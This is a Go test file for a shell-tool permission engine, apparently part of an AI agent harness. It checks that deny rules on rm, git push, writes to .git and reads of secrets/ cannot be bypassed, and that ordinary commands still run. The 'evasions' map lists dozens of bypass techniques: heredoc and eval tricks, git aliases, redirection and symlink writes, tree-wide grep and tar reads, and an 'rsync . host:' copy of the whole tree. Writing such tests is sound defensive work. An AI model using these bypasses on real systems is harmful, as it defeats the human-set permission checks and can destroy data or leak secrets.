@@ -1,0 +1,157 @@
+package permission
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+// Where everything else runs, deny rules are all there is: the ways around them
+// that can be read off the line. HOME is the folder above, which the working
+// folder BASE lies in.
+var evasions = map[string][]string{
+	"deny exec rm *": {
+		"bash //dev/fd/0 <<< 'rm x'",
+		"bash /dev/stdin <<< 'rm x'",
+		"bash -s y <<< 'rm x'",
+		"sh - <<< 'rm x'",
+		"sh -- <<< 'rm x'",
+		". /dev/stdin <<< 'rm x'",
+		"source <(echo rm x)",
+		"/bin/r[m] x",
+		"/bin/r* x",
+		"\"$PWD\"/rm x",
+		"$D/rm x",
+		"~/bin/rm x",
+		"$'rm' x",
+		"{rm,x}",
+		"env -iS 'rm x'",
+		"env -vS'rm x'",
+		"script -qc 'rm x' /dev/null",
+		"su -lc 'rm x'",
+		"flock l -xc 'rm x'",
+		"echo rm | xargs -I% % x",
+		"echo rm | xargs -i {} x",
+		"echo rm | xargs --replace=@ @ x",
+		"ls | xargs -I F sh -c 'rm F'",
+		"fakeroot rm x",
+		"setpriv --reuid 1 rm x",
+		"xvfb-run -a rm x",
+		"dbus-run-session -- rm x",
+		"rlwrap rm x",
+		"torsocks rm x",
+		"eval \"r\"\"m x\"",
+		"f() { \"$@\"; }; f rm x",
+		"trap -- 'rm x' 0",
+		": ${x:=$(rm x)}",
+		": $[ $(rm x) ]",
+		"echo {1,$(rm x)}",
+		"until rm x; do :; done",
+	},
+	"deny exec git push": {
+		"git -c alias.p=push p",
+		"git -c alias.p='push origin' p",
+		"git -c alias.p='!git push' p",
+		"git --git-dir=.git --work-tree . push",
+	},
+	"deny write .git/**": {
+		"echo x > ~+/.git/config",
+		"echo x > ~/BASE/.git/config",
+		"echo x > ~root/.git/config",
+		"echo x > \"$PWD/.git/config\"",
+		"echo x > $PWD/.g*/config",
+		"tee $PWD/.git/config",
+		"for d in .git; do cd $d; echo x > config; done",
+		"cd .; cd .; cd .; cd .; cd .; cd .git; echo x > config",
+		"cd; echo x > BASE/.git/config",
+		"cd ~; echo x > BASE/.git/config",
+		"cd -- .git; echo x > config",
+		"pushd .git; echo x > config",
+		"find .git -execdir tee config \\;",
+		"env -C .git tee config",
+		"tar -C .git -xf x",
+		"exec 3> .git/config",
+		"echo x >&.git/config",
+		"echo x &>> .git/config",
+		"echo x | tee >(cat > .git/config)",
+		"cat > link/config",
+	},
+	"deny read secrets/**": {
+		"cat ~/BASE/secrets/key",
+		"cat ~+/secrets/key",
+		"cat \"$PWD/secrets/key\"",
+		"cat \"$PWD\"/secrets/*",
+		"cat {secrets,x}/key",
+		"grep -r KEY .",
+		"grep -R KEY",
+		"rg KEY",
+		"tar cf - .",
+		"tar -czf /tmp/x.tgz ./",
+		"cp -a . /tmp/x",
+		"diff -r . /tmp/x",
+		"rsync . host:",
+		"cd secrets && cat key",
+		"while read l; do echo $l; done < secrets/key",
+	},
+}
+
+// What has nothing to do with those rules runs.
+var honest = []string{
+	"cd src && cat a.txt > list",
+	"cat src/a.txt | tee copy",
+	"git -C src log > log.txt",
+	"grep -rn KEY src",
+	"grep -n KEY main.go",
+	"rg KEY main.go",
+	"cp -r src dst",
+	"tar -xzf x.tgz",
+	"tar -czf x.tgz src",
+	"for f in *.txt; do cat \"$f\"; done",
+	"cat {a,b}.txt",
+	"bash x.sh -s",
+	". ./env.sh",
+	"find . -name '*.go' -exec wc -l {} +",
+	"ls | xargs -I{} echo {}",
+	"git -c color.ui=never log",
+	"env X=1 ls",
+	"$EDITOR_DIR/fmt x",
+	"ls -C . 2>&1",
+	"cd ~/other && make",
+}
+
+func TestEvasions(t *testing.T) {
+	home := t.TempDir()
+	t.Setenv("HOME", home)
+	dir := filepath.Join(home, "work")
+	for _, d := range []string{".git", "secrets", "src"} {
+		if err := os.MkdirAll(filepath.Join(dir, d), 0o755); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if err := os.Symlink(".git", filepath.Join(dir, "link")); err != nil {
+		t.Skip(err)
+	}
+	if err := os.WriteFile(filepath.Join(dir, "main.go"), nil, 0o644); err != nil {
+		t.Fatal(err)
+	}
+	var all []string
+	for rule, commands := range evasions {
+		all = append(all, rule)
+		p := policy(t, rule)
+		p.Mode, p.Dir = ModeAll, dir
+		for _, c := range commands {
+			c = strings.ReplaceAll(c, "BASE", "work")
+			if d := p.Decide(shellTool, commandArgs(c), false); d.Verdict == Allow {
+				t.Errorf("%s does not stop %q", rule, c)
+			}
+		}
+	}
+	p := policy(t, all...)
+	p.Mode, p.Dir = ModeAll, dir
+	for _, c := range honest {
+		if d := p.Decide(shellTool, commandArgs(c), false); d.Verdict != Allow {
+			t.Errorf("%q: %s (%s)", c, d.Verdict, d.Why)
+		}
+	}
+}
